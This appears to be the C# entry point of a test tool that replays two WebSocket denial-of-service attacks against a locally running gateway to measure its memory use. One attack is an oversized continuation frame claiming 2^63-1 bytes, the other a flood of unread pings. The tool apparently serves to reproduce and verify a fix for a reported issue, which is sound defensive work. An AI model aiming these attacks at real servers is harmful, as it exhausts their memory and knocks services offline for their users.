using System.Globalization;
using OrleansRooms.Attacks;

// OrleansRooms.Attacks <continuation|ping-flood> --url http://127.0.0.1:3000 [--pid <server pid>] [--option value]...
// Replays the memory attacks of issue 8 against a running gateway over raw WebSocket bytes and prints what the server
// answered and its resident memory (from /proc/<pid>/status) before, at the peak during, and after the attack.
if (args.Length == 0 || args[0] is not ("continuation" or "ping-flood"))
{
    Console.Error.WriteLine("""
        usage: OrleansRooms.Attacks continuation --url URL [--pid PID] [--bytes 1073741824] [--hold 2]
               OrleansRooms.Attacks ping-flood   --url URL [--pid PID] [--count 2000000] [--read false] [--hold 2]
          continuation  a text frame with FIN=0 and 1 byte, then a continuation claiming 2^63-1 bytes, then --bytes of payload
          ping-flood    --count pings of 125 bytes; the client never reads unless --read true (then it drains as it sends)
          --pid         the server's process id, for its memory; --hold: seconds after the attack before the last sample
        """);
    return 2;
}

var options = new Dictionary<string, string>();
for (var i = 1; i + 1 < args.Length; i += 2)
{
    options[args[i]] = args[i + 1];
}

var url = new Uri(options.GetValueOrDefault("--url", "http://127.0.0.1:3000"));
var pid = options.TryGetValue("--pid", out var p) ? int.Parse(p, CultureInfo.InvariantCulture) : (int?)null;
var hold = TimeSpan.FromSeconds(double.Parse(options.GetValueOrDefault("--hold", "2"), CultureInfo.InvariantCulture));
await using var memory = new ServerMemory(pid);
Console.WriteLine($"server memory before: {memory.Now()}");

if (args[0] == "continuation")
{
    var bytes = long.Parse(options.GetValueOrDefault("--bytes", "1073741824"), CultureInfo.InvariantCulture);
    await Attack.ContinuationAsync(url, bytes);
}
else
{
    var count = int.Parse(options.GetValueOrDefault("--count", "2000000"), CultureInfo.InvariantCulture);
    var read = bool.Parse(options.GetValueOrDefault("--read", "false"));
    await Attack.PingFloodAsync(url, count, read, memory, hold);
}

Console.WriteLine($"server memory peak during the attack: {memory.Peak}");
await Task.Delay(hold);
Console.WriteLine($"server memory {hold.TotalSeconds:0.#} s after the attack: {memory.Now()}");
return 0;
